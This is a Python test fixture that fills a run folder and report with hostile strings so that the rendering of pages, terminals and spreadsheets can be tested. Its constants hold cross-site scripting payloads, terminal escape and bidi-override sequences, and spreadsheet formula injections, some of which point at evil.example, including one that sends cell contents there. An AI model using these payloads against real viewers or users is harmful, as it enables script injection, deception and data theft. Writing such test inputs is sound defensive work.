"""A run whose every text attacks whoever shows it: for tests of pages, terminals and tables.

`hostile_run(home)` is a real run folder (manifest, journal, evidence, metrics, samples, logs, report) made by
the ordinary writers, so whatever reads it reads it as it would read a run of a hostile target. Where a script
of it ran, the page's title is "owned".
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from honing.executors import InlineExecutor, run_map
from honing.store import (
    Badge,
    Bars,
    Bracket,
    CellKind,
    Column,
    Diff,
    Dots,
    Estimate,
    Fact,
    Headline,
    HeatMap,
    Histogram,
    Interval,
    KeyValues,
    Lineage,
    Lines,
    Node,
    Point,
    Report,
    Run,
    SampleRow,
    Samples,
    Section,
    Series,
    StageEvidence,
    Step,
    Steps,
    Table,
    Text,
    Tone,
)

SCRIPTS = (
    "<script>document.title = 'owned'</script>",
    "</script><script>document.title = 'owned'</script>",
    "</style><script>document.title = 'owned'</script>",
    "<!--<script>",
    "]]><img src=x onerror=\"document.title='owned'\">",
    '" onmouseover="document.title=\'owned\'" x="',
    "' autofocus onfocus='document.title=1' x='",
    "<svg onload=document.title='owned'><style>*{display:none}</style>",
    "javascript:document.title='owned'",
    "[words](javascript:document.title='owned')",
    "<a href=\"javascript:document.title='owned'\">words</a>",
    "<iframe srcdoc='<script>top.document.title=1</script>'></iframe><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<img src=https://evil.example/x.png><link rel=stylesheet href=https://evil.example/x.css>",
    "{{script}} {{title}} \\1 \\g<0> %s ${alert(1)} {0} {% raw %}",
    "&lt;script&gt; &amp; &#60;script&#62;",
    "`${document.title='owned'}` '; document.title='owned'; //",
    "\u2028\u2029 */ <!-- --> */",
)
"""For a browser."""

ESCAPES = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x00\r\u202e\u200b\ufeff\udcff\U000e0041",
    "\x1b]8;;https://evil.example\x1b\\words\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07\x9b2J\x08\x08\x08",
    "\u2066evil\u2069 \u202eevil\u202c zero\u200bwidth\u200d \u2800\u3164\xad",
)
"""For a terminal, and for whoever reads a line from right to left."""

EVENTS = "data: owned\n\nevent: owned\nid: 9\n\n"
"""For a stream of events."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"words")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    " =1+1",
)
"""For a spreadsheet: some begin with what a reader may take away before it looks."""

HOSTILE = (*SCRIPTS, *ESCAPES)
ALL = "\n".join((*HOSTILE, *FORMULAS, EVENTS))
"""All of them as one text."""
HUGE = 10**80
FOLDER = "<img src=x onerror=document.title='owned'>\x1b[31m\u202e=cmd"
"""A folder of runs is the user's own, so a run may be renamed to this."""
ACTS = ("\x1b", "\x9b", "\x07", "\x08", "\x00", "\r", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028")
"""Characters none of which may reach a terminal or a page as they are."""


def hostile_run(
    home: Path, *, kind: str = "measure", line_bytes: int = 1_000_000, columns: int = 2_000
) -> Run:
    """A finished run made of such texts.

    Args:
        home: The folder of runs.
        kind: What made the run, as the manifest says.
        line_bytes: Length of the long line in a sample, the logs, the evidence and the report.
        columns: Of `wide.tsv` and of one table of the report.

    Sizes that only a campaign needs are 10,000,000 and 100,000: writing them takes eight seconds.
    """
    config = {"target": ALL, "model": ALL, ALL: [ALL, HUGE, deep(200)], "tree": ALL, "agent": ALL}
    run = Run.create(home, kind=kind, config=config, command=("hone", "measure", ALL), seed=7)
    long_line = "\x1b[31m" + "<b>x" * (line_bytes // 4)
    with contextlib.suppress(RuntimeError), run.supervise():
        # A step's name is a programmer's, so it is text that a database takes.
        step = ALL.replace("\0", "").encode("utf-8", "ignore").decode()
        run_map(run, step, _unit, [ALL, {"n": HUGE}], executor=InlineExecutor())
        evidence = run.evidence()
        evidence.append(ALL, {ALL: ALL, "stdout": long_line, "deep": deep(50)})
        evidence.append("stage", stage_record(ALL))
        run.write_json("metrics.json", _metrics(run))
        run.write_jsonl("samples.jsonl", [*_samples(), _sample("long", ALL, completion=long_line)])
        run.write_json("hints_used.json", _hints())
        run.write_text("logs/calls.jsonl", long_line + "\n" + ALL)
        run.write_text("logs/run.log", long_line + "\n" + ALL)
        run.write_tsv("wide.tsv", [f"c{n}{FORMULAS[n % 5]}" for n in range(columns)], [{}])
        hostile_report(long_line, columns).write(run.artifact("report.json"))
        raise RuntimeError(ALL)
    folder = home / FOLDER
    run.path.rename(folder)
    return Run.open(folder)


def hostile_report(long_line: str = "", columns: int = 3) -> Report:
    """A report with these texts in every place, a line that is too long and a table that is too wide."""
    wide = Table(
        columns=tuple(Column(key=str(n), title=f"c{n}") for n in range(columns)),
        rows=(("x",) * columns,),
        caption=ALL,
    )
    stage = StageEvidence(stage="long", command="x", ending="exited", ok=True, stdout=long_line)
    bare = Section(title=ALL, blocks=(wide, Text(text=long_line), stage))
    return Report(
        title=ALL,
        sections=(*every_block(ALL).sections, bare),
    )


def deep(levels: int) -> Any:
    """Lists within lists."""
    found: Any = ALL
    for _ in range(levels):
        found = [found]
    return found


def stage_record(text: str) -> dict[str, Any]:
    """A stage's attempt as the evidence keeps it."""
    return {
        "stage": text, "command": text, "ending": text, "exit_code": 1, "attempt": 1, "stdout": text,
        "stderr": text, "sandbox": text, "capabilities": [text], "detail": text,
    }  # fmt: skip


def acting(text: str) -> list[str]:
    """The characters of a text that would act on whoever shows it; empty where it is inert."""
    return [character for character in ACTS if character in text]


def _unit(given: Any) -> Any:
    return {"reward": 0.5, "said": given}


def _samples() -> Iterator[dict[str, Any]]:
    for text in (*HOSTILE, *FORMULAS):
        yield _sample(text, text)


def _sample(name: str, text: str, *, completion: str | None = None) -> dict[str, Any]:
    said = text if completion is None else completion
    return {
        "id": name, "epoch": 0, "prompt": text, "completion": said, "target": text, "reward": 0.5,
        "scores": {name: HUGE}, "extracted": text, "why": text, "status": "completed", "error": text,
        "usage": {"input_tokens": HUGE}, "seed": 0, "model": text, "started": 1.0, "ended": 2.0, "attempt": 1,
    }  # fmt: skip


def _metrics(run: Run) -> dict[str, Any]:
    return {
        "ok": True, "score": 0.5, "reason": ALL, "level": "L5", "label": ALL, "model": ALL, "mode": "full",
        "metric": {"name": ALL, "unit": ALL, "direction": "maximize", "range": [0.0, 1.0], "chance": 0.0},
        "ci95": [0.2, 0.8], "interval_method": ALL, "n_planned": HUGE, "n_scored": HUGE, "coverage": 1.0,
        "population": HUGE, "epochs": 1, "tokens": {"input": HUGE, "output": HUGE}, "calls": HUGE,
        "contract_hash": ALL, "commit": ALL, "run_id": run.id, "ts": ALL,
    }  # fmt: skip


def _hints() -> dict[str, Any]:
    anchors = [{"anchor": ALL, "part": ALL, "why": ALL}]
    return {"ok": True, "reason": ALL, "used_anchors": anchors, "commands": [{"command": ALL, "anchor": ALL}]}


def every_block(text: str) -> Report:
    """A report that has `text` in every place that holds text."""
    estimate = Estimate(label=text, value=0.5, low=0.4, high=0.6, group=text)
    bracket = Bracket(
        title=text, scores=(estimate,), ceilings=(estimate,), floors=(estimate,), unit=text, caption=text
    )
    column = Column(key="c", title=text, note=text, filter=True)
    fact = Fact(label=text, value=text, note=text)
    series = Series(name=text, points=(Point(x=0, y=1, label=text, named=True),))
    node = Node(id=text, position=1, value=0.5, parents=(text,), group=text, kind=text, label=text)
    step = Step(label=text, value=0.5, gain=Interval(0.1, 0.0, 0.2), word=text, note=text)
    one = {"rows": (text,), "columns": (text,), "values": ((1.0,),)}
    blocks = (
        Headline(
            label=text, value=0.5, badge=Badge(text), note=text, facts=(fact,), bracket=bracket,
            interval=Interval(0.5, 0.4, 0.6),
        ),
        Table(columns=(column, column), rows=((text, Badge(text)), (None, text)), caption=text),
        KeyValues(facts=(fact, Fact(label=text, value=text, kind=CellKind.CODE)), caption=text),
        Text(text=text, title=text, tone=Tone.WARN),
        Text(text=text),
        Diff(text=f"--- {text}\n+++ {text}\n@@ {text} @@\n-{text}\n+{text}\n {text}", title=text),
        bracket,
        Bars(title=text, bars=(estimate,), unit=text, caption=text),
        Dots(title=text, dots=(estimate,), unit=text, caption=text),
        Lines(title=text, series=(series, series), x_label=text, y_label=text),
        Histogram(title=text, edges=(0.0, 1.0), counts=(1,), x_label=text, marks=(estimate,)),
        HeatMap(title=text, row_label=text, column_label=text, **one),
        Lineage(title=text, nodes=(node, node), x_label=text, y_label=text, caption=text),
        Steps(title=text, steps=(step, step), y_label=text, reference=1.0, reference_label=text),
        Samples(
            rows=(
                SampleRow(id=text, prompt=text, completion=text, target=text, status=text, extra={"c": text}),
                SampleRow(id="2", prompt="", reward=1.0, extra={"c": Badge(text)}),
            ),
            columns=(column,),
            details=(column,),
            caption=text,
        ),
        StageEvidence(
            stage=text, command=text, ending=text, ok=False, stdout=text, stderr=text, sandbox=text,
            capabilities=(text,), note=text,
        ),
    )  # fmt: skip
    section = Section(title=text, text=text, blocks=blocks)
    return Report(title=text, subtitle=text, badges=(Badge(text),), sections=(section,), footer=text)
